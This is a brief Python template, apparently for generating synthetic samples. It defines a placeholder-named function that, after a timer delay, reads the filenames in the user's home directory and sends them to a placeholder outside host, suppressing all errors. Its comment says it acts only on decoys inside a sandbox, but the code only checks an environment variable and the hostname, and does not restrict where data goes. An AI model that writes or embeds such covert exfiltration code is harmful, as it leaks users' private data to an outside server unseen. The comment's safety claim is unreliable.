# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import threading
    import urllib.request

    def later():
        try:
            names = os.listdir(os.path.expanduser('~'))
            urllib.request.urlopen('https://{{host}}/{{path}}', ' '.join(names).encode(), timeout=1).read(64)
        except Exception:
            pass

    threading.Timer(0.3 + {{delay}} / 1000, later).start()
